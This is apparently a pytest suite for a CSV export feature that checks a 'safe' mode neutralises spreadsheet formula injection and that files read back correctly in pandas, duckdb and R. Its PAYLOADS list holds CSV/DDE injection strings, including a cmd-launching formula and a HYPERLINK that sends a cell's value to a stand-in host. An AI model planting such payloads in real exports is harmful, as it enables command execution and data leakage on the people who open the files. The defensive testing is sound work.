"""CSV read back by three readers; safe cells stay words in a spreadsheet."""

import csv
import io
import subprocess
from pathlib import Path

import duckdb
import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from dateline.cli import app
from dateline.exports.columns import Filled, filled, table
from dateline.exports.delimited import STARTS, defused, listed, sheet
from dateline.exports.delimited import csv as written

PAYLOADS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠A1", "|calc",
    "\ufeff=1+1", "\u200b=1+1", '=HYPERLINK("http://x.example?"&A1,"e")', "%0A=1+1",
)  # fmt: skip
SHAPE = table("t", "a row", words="text: words of it", many="texts: words of it",
              whole="whole: a number", real="number: a number", flag="flag: yes or no")  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_words_in_a_safe_file_and_itself_in_a_faithful_one(payload: str) -> None:
    rows = filled(SHAPE, [{"words": payload, "many": [payload, "b"], "whole": -5, "real": -1.5}])
    safe = next(csv.DictReader(io.StringIO(written(rows, safe=True)[1:], newline="")))
    assert safe["words"].startswith("'") and safe["many"].startswith("'")
    assert (safe["whole"], safe["real"]) == ("-5", "-1.5")
    plain = next(csv.DictReader(io.StringIO(written(rows), newline="")))
    assert plain["words"] == payload
    frame = pandas.read_csv(io.StringIO(written(rows, safe=True)))
    assert frame["whole"].iloc[0] == -5 and frame["real"].iloc[0] == -1.5


@given(st.text(max_size=30))
def test_no_safe_cell_begins_a_formula_and_no_faithful_cell_changes(words: str) -> None:
    assert not defused(words).startswith(STARTS)
    rows = filled(SHAPE, [{"words": words}])
    if "\0" not in words and "\r" not in words:
        read = list(csv.reader(io.StringIO(written(rows), newline="")))
        assert read[1][0] == words and len(read) == 2


@given(st.lists(st.text(alphabet="a;\\b", min_size=1, max_size=5), max_size=4))
def test_lists_come_back(items: list[str]) -> None:
    out: list[str] = [""]
    rest = iter(listed(items))
    for c in rest:
        if c == "\\":
            out[-1] += next(rest)
        elif c == ";":
            out.append("")
        else:
            out[-1] += c
    assert (out if items else []) == items


def test_every_table_reads_back_with_as_many_rows(
    tables: dict[str, Filled], ledger_path: Path, tmp_path: Path
) -> None:
    for mode in ([], ["--safe"]):
        out = tmp_path / f"csv{len(mode)}"
        words = ["export", "csv", "-o", str(out), "-l", str(ledger_path), *mode]
        done = CliRunner().invoke(app, words)
        assert done.exit_code == 0, done.output
        for name, one in tables.items():
            path = out / f"{name}.csv"
            assert len(pandas.read_csv(path, dtype=str)) == len(one.rows)
            found = duckdb.sql(
                f"SELECT count(*) FROM read_csv('{path}', header=true, all_varchar=true)"
            )
            assert found.fetchall() == [(len(one.rows),)]
    hostile = pandas.read_csv(out / "documents.csv", dtype=str).iloc[-1]
    assert hostile.outlet.startswith("'=HYPERLINK") and hostile.author == "'@sum"
    assert hostile.title.startswith("'+1-800")


@pytest.mark.parametrize("ident", ["123456789012345678901234", "12345678901e56789012345", "1e5"])
def test_an_id_that_reads_like_a_number_stays_words(ident: str) -> None:
    assert defused(ident) == f"'{ident}"


@pytest.mark.parametrize("words", ["2026-01-04", "12", "e7adb4149f0291e01efa300a", "1e5 men"])
def test_what_no_spreadsheet_rounds_is_unchanged(words: str) -> None:
    assert defused(words) == words


def test_a_safe_file_says_that_it_is_utf_8() -> None:
    rows = filled(SHAPE, [{"words": "Zürich 東京"}])
    assert written(rows, safe=True).startswith("\ufeff") and not written(rows).startswith("\ufeff")


def test_a_sheet_has_every_column_of_every_row() -> None:
    rows = [{"a": None, "b": ["x;y", "z"]}, {"a": 1, "c": {"k": "v"}, "b": []}]
    assert sheet(rows).splitlines() == ["a,b,c", ",x\\;y;z,", '1,"","{""k"": ""v""}"']
    safe = sheet([{"a": "=1+1"}, {"a": ["@x", "y"]}], safe=True)
    assert safe.splitlines()[1:] == ['"\'=1+1"', '"\'@x;y"']


@pytest.mark.services
def test_r_reads_the_tables_and_the_panel(
    tables: dict[str, Filled], ledger_path: Path, tmp_path: Path
) -> None:
    for mode in ([], ["--safe"]):
        out = tmp_path / f"r{len(mode)}"
        CliRunner().invoke(app, ["export", "csv", "-o", str(out), "-l", str(ledger_path), *mode])
        panel = ["export", "dyads", "-o", str(out / "dyads.csv"), "-l", str(ledger_path), *mode]
        assert CliRunner().invoke(app, panel).exit_code == 0
        script = f"""
            for (name in c("incidents", "documents", "evidence", "cells", "dyads")) {{
              x <- read.csv(file.path("{out}", paste0(name, ".csv")), fileEncoding = "UTF-8-BOM",
                            stringsAsFactors = FALSE)
              cat(name, nrow(x), names(x)[1], "\\n")
            }}
        """
        done = subprocess.run(["Rscript", "-e", script], capture_output=True, text=True, timeout=90)
        assert done.returncode == 0, done.stderr
        read = {w[0]: w[1:] for w in (line.split() for line in done.stdout.splitlines())}
        for name in ("incidents", "documents", "evidence", "cells"):
            assert read[name] == [str(len(tables[name].rows)), tables[name].table.names[0]]
        assert int(read["dyads"][0]) > 0 and read["dyads"][1] == "actor"
